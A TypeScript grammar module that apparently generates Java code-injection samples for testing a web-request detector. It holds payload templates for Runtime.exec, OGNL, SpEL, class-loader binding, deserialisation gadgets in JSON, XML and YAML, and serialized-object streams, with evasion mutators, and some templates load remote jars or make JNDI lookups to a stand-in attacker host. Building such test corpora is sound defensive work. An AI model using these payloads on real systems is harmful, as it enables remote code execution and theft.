/** Java: calls and class names, expression languages, class loaders reached by binding, and serialised objects. */
import type { Family } from '../../family.ts';
import {
  ALPHANUMERIC,
  changed,
  characters,
  HEX_DIGITS,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  text,
  weighted,
} from '../../grammar.ts';
import { evade } from '../../mutators/evade.ts';
import { attackerHost, identifier, privateIp, probeNumber, sensitiveFile, shellCommand, token } from '../lexicon.ts';
import { ANY_INPUT, ARGUMENTS, familyOf } from '../places.ts';
import { amongMembers, anywhere } from '../surroundings.ts';

const quotedCommand: Rule = oneOf(text`"${shellCommand}"`, text`'${shellCommand}'`);
const call: Rule = oneOf(
  text`${maybe('java.lang.')}Runtime.getRuntime().exec(${quotedCommand})${maybe(oneOf('.waitFor()', '.getInputStream()', ';'))}`,
  text`new ${maybe('java.lang.')}ProcessBuilder(${oneOf(quotedCommand, text`new String[]{"/bin/sh","-c",${quotedCommand}}`, text`{"cmd","/c",${quotedCommand}}`)}).start()`,
  text`java.lang.Class.forName("java.lang.${oneOf('Runtime', 'ProcessBuilder', 'System')}")${maybe('.getMethod("getRuntime",null).invoke(null,null)')}`,
  text`new javax.script.ScriptEngineManager().getEngineByName("${oneOf('js', 'nashorn', 'javascript')}").eval("${oneOf('java.lang.Runtime.getRuntime()', text`${probeNumber}*${probeNumber}`)}")`,
  text`Thread.sleep(${integer(1000, 20000)})`,
  text`new java.util.Scanner(Runtime.getRuntime().exec(${quotedCommand}).getInputStream()).useDelimiter("\\\\A").next()`,
  text`System.setProperty("${identifier}","${token}");System.${oneOf('exit(0)', 'getenv()', 'getProperty("user.dir")')}`,
  text`new java.net.URL("http://${attackerHost}/${token}").openStream()`,
  text`${shellCommand}'.execute().text`,
  text`new java.io.BufferedReader(new java.io.FileReader("${sensitiveFile}")).readLine()`,
  text`new URLClassLoader(new URL[]{new URL("http://${attackerHost}/${token}.jar")}).loadClass("${token}").newInstance()`,
);

const ognlBody: Rule = oneOf(
  text`(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd=${quotedCommand}).(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#process=#p.start())`,
  text`#_memberAccess['${oneOf('allowStaticMethodAccess', 'excludedClasses', 'acceptProperties')}']=true,@java.lang.Runtime@getRuntime().exec(${quotedCommand})`,
  text`@java.lang.Runtime@getRuntime().exec(${quotedCommand})`,
  text`#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('${token}',${probeNumber}*${probeNumber})`,
  text`(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()))).(#cmd=${quotedCommand})`,
  text`#a=(new java.lang.ProcessBuilder(${quotedCommand})).start(),#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b)`,
  text`#${identifier}=@org.apache.struts2.ServletActionContext@getResponse().getWriter(),#${identifier}.println(${probeNumber}*${probeNumber})`,
  text`new java.lang.ProcessBuilder(new java.lang.String[]{${quotedCommand}}).start()`,
  text`@java.lang.${oneOf('System@getProperty("user.name")', 'System@getenv()', 'Thread@sleep(5000)', 'Class@forName("java.lang.Runtime")')}`,
);
const ognl: Rule = oneOf(
  text`%{${ognlBody}}`,
  text`\${${ognlBody}}`,
  text`%{(#nike='multipart/form-data').${ognlBody}}`,
  text`${oneOf('redirect', 'action', 'redirectAction')}:\${${ognlBody}}`,
  text`('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(${identifier})=true&(${identifier})(('${ognlBody}'))`,
  text`/\${${ognlBody}}/${oneOf('index.action', 'help.action', 'actionChain1.action', 'login.do')}`,
  text`'+\${${ognlBody}}+'`,
  text`\\u0027+{${ognlBody}}+\\u0027`,
  text`class['${oneOf('classLoader', 'module')}']['${identifier}']=${token}`,
  text`%{#a=${probeNumber}*${probeNumber}}${ognlBody}`,
);

const spelBody: Rule = oneOf(
  text`T(java.lang.Runtime).getRuntime().exec(${quotedCommand})`,
  text`T(java.lang.System).getenv()`,
  text`T(java.lang.Thread).sleep(${integer(1000, 20000)})`,
  text`new java.lang.ProcessBuilder(${quotedCommand}).start()`,
  text`T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(${quotedCommand}).getInputStream())`,
  text`''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec(${quotedCommand})`,
  text`"".getClass().forName("java.lang.${oneOf('Runtime', 'ProcessBuilder')}")${maybe('.getMethods()[6].invoke(null)')}`,
  text`T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('${sensitiveFile}'))`,
  text`T(String).getClass().forName('java.lang.Ru'+'ntime').getMethod('ex'+'ec',T(String[])).invoke(null,new String[]{${quotedCommand}})`,
  text`#this.getClass().forName('java.lang.Runtime')`,
  text`${oneOf('request', 'session', 'facesContext', 'applicationScope', 'pageContext', 'param')}.getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec(${shellCommand})")`,
  text`${oneOf('request', 'session', 'applicationScope')}.setAttribute("a","".getClass().forName("java.lang.Runtime").getDeclaredMethods()[${integer(1, 20)}].invoke(null))`,
);
const spel: Rule = oneOf(
  text`\${${spelBody}}`,
  text`#{${spelBody}}`,
  spelBody,
  text`'+\${${spelBody}}+'`,
  text`{"spring.cloud.function.routing-expression":"${spelBody}"}`,
  text`spring.cloud.function.routing-expression: ${spelBody}`,
  text`*{${spelBody}}`,
  text`username[#${oneOf('this', 'root')}.getClass().forName("java.lang.Runtime").getRuntime().exec(${quotedCommand})]=${token}`,
  text`"value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(${quotedCommand}).getInputStream()))}"`,
);

const binding: Rule = oneOf(
  text`class.module.classLoader.${oneOf(
    text`resources.context.parent.pipeline.first.${oneOf(text`pattern=%25%7Bc2%7Di%20if(%22${identifier}%22.equals(request.getParameter(%22pwd%22)))`, 'suffix=.jsp', 'directory=webapps/ROOT', text`prefix=${token}`, 'fileDateFormat=')}`,
    text`DefaultAssertionStatus=${oneOf('true', 'x', integer(0, 99))}`,
    text`URLs[0]=${oneOf('0', 'jar:http://x/')}`,
    text`resources.cache.objectMaxSize=${integer(1, 999)}`,
    text`defaultAssertionStatus=${token}`,
  )}`,
  text`${oneOf('class', 'Class', 'CLASS')}.classLoader.${oneOf('URLs[0]', 'resources.dirContext.docBase', 'jarPath', 'resources')}=${oneOf(text`//${attackerHost}/${token}`, text`jar:http://${attackerHost}/x.jar!/`, token)}`,
  text`class['classLoader']['resources']['${oneOf('dirContext', 'context')}']=${token}`,
  text`${identifier}.class.${oneOf('classLoader', 'protectionDomain.classLoader', 'module.classLoader')}.resources=${token}`,
  text`top['foo'](0)&top['${identifier}']['class']['classLoader']=${token}`,
);

const gadget: Rule = oneOf(
  'com.sun.rowset.JdbcRowSetImpl',
  'org.apache.commons.collections.functors.InvokerTransformer',
  'org.apache.commons.collections4.functors.ChainedTransformer',
  'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl',
  'ch.qos.logback.core.db.JNDIConnectionSource',
  'com.mchange.v2.c3p0.WrapperConnectionPoolDataSource',
  'org.apache.xbean.propertyeditor.JndiConverter',
  'org.springframework.beans.factory.ObjectFactory',
  'org.apache.ibatis.datasource.jndi.JndiDataSourceFactory',
  'com.zaxxer.hikari.HikariConfig',
  'org.codehaus.groovy.runtime.MethodClosure',
  'javax.swing.JEditorPane',
  'org.apache.tomcat.dbcp.dbcp2.BasicDataSource',
  'java.lang.Class',
  'java.lang.AutoCloseable',
  'java.net.Inet4Address',
  'java.net.URL',
  'org.springframework.context.support.ClassPathXmlApplicationContext',
);
const json: Rule = oneOf(
  text`{"@type":"${gadget}","dataSourceName":"${oneOf('ldap', 'rmi')}://${oneOf(attackerHost, privateIp)}:${integer(389, 9999)}/${token}","autoCommit":true}`,
  text`{"${identifier}":{"@type":"java.lang.Class","val":"${gadget}"},"b":{"@type":"${gadget}","dataSourceName":"${oneOf('ldap', 'rmi')}://${attackerHost}/${token}","autoCommit":true}}`,
  text`{"@type":"java.net.${oneOf('Inet4Address', 'Inet6Address')}","val":"${attackerHost}"}`,
  text`{"@type":"${gadget}","_bytecodes":["${characters(ALPHANUMERIC, 30, 120)}"],"_name":"${identifier}","_tfactory":{},"_outputProperties":{}}`,
  text`["${gadget}",{"${oneOf('jndiName', 'dataSourceName', 'asText', 'driverLocation', 'configurationURL')}":"${oneOf('ldap', 'rmi', 'http')}://${attackerHost}/${token}"}]`,
  amongMembers(text`"@type":"${gadget}"`),
  amongMembers(text`"@class":"${gadget}","${identifier}":"${oneOf('ldap', 'rmi')}://${attackerHost}/${token}"`),
  text`{"@\\x74ype":"${gadget}","dataSourceName":"rmi://${attackerHost}/${token}"}`,
);
const xml: Rule = oneOf(
  text`<${oneOf('map', 'sorted-set', 'tree-map', 'linked-hash-set', 'java.util.PriorityQueue')}><entry><${gadget}><target class="java.lang.ProcessBuilder"><command><string>${shellCommand}</string></command></target></${gadget}></entry></map>`,
  text`<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>${shellCommand}</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>`,
  text`<java version="1.${integer(4, 8)}.0" class="java.beans.XMLDecoder"><object class="java.lang.${oneOf('ProcessBuilder', 'Runtime')}"><array class="java.lang.String" length="1"><void index="0"><string>${shellCommand}</string></void></array><void method="start"/></object></java>`,
  text`<void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="${integer(1, 3)}"><void index="0"><string>${shellCommand}</string></void></array><void method="start"/></void>`,
  text`<bean id="pb" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>${shellCommand}</value></list></constructor-arg></bean>`,
  text`!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${attackerHost}/${token}"]]]]`,
  text`!!${gadget} {dataSourceName: "ldap://${attackerHost}/${token}", autoCommit: true}`,
);

const streamHead: Rule = oneOf(
  'rO0ABXNyA',
  'rO0ABXQA',
  'rO0ABXVyA',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
  'rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlc',
  'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1Z',
  'rO0ABXNyAAxqYXZhLm5ldC5VUkw',
);
const serialised: Rule = oneOf(
  text`${streamHead}${characters(`${ALPHANUMERIC}+/`, 20, 300)}${oneOf('', '=', '==')}`,
  text`aced0005${oneOf('7372', '7400', '7572', '7704', '737200116a6176612e7574696c2e486173684d6170')}${characters(HEX_DIGITS, 20, 240)}`,
  text`ACED0005${characters('0123456789ABCDEF', 20, 200)}`,
  text`H4sIAAAAAAAA${oneOf('AK', 'A', 'E')}${characters(`${ALPHANUMERIC}+/`, 4)}rO0AB${characters(`${ALPHANUMERIC}+/`, 20, 120)}`,
  text`\\xac\\xed\\x00\\x05${oneOf('sr', 't', 'ur')}\\x00${characters(ALPHANUMERIC, 1)}${gadget}`,
  text`%ac%ed%00%05sr%00${characters(HEX_DIGITS, 2)}${gadget}${characters(ALPHANUMERIC, 4, 20)}`,
  text`${streamHead}${changed(gadget, (name) => btoa(name).replaceAll('=', ''))}${characters(ALPHANUMERIC, 20, 120)}`,
  text`${oneOf('sr', 'ur')}${characters(LOWER_CASE, 1)}${gadget}${characters(ALPHANUMERIC, 8, 30)}xp`,
);

/** Java code, expressions and objects. */
export const JAVA_FAMILIES: readonly Family[] = [
  familyOf('code-injection', 'java-call', anywhere(call), ANY_INPUT),
  familyOf('code-injection', 'java-ognl', evade(ognl), [...ANY_INPUT, 'REQUEST_CONTENT_TYPE'], 1.2),
  familyOf('code-injection', 'java-spel', evade(spel), ANY_INPUT),
  familyOf(
    'code-injection',
    'java-binding',
    evade(binding),
    ['REQUEST_GET_ARGS', 'REQUEST_POST_ARGS', 'REQUEST_ARGS_KEYS', 'REQUEST_QUERY'],
    0.5,
  ),
  familyOf('code-injection', 'java-gadget', evade(weighted([3, json], [2, xml])), [...ARGUMENTS, 'REQUEST_XML']),
  familyOf('code-injection', 'java-object', evade(serialised), ANY_INPUT, 0.7),
];
